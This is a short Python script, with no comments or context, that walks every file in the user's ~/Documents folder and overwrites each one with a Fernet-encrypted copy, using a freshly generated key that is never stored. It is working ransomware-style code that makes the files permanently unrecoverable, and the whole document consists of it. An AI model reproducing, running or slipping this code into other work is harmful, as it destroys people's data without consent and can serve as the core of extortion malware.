import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        open(path, "wb").write(box.encrypt(data))
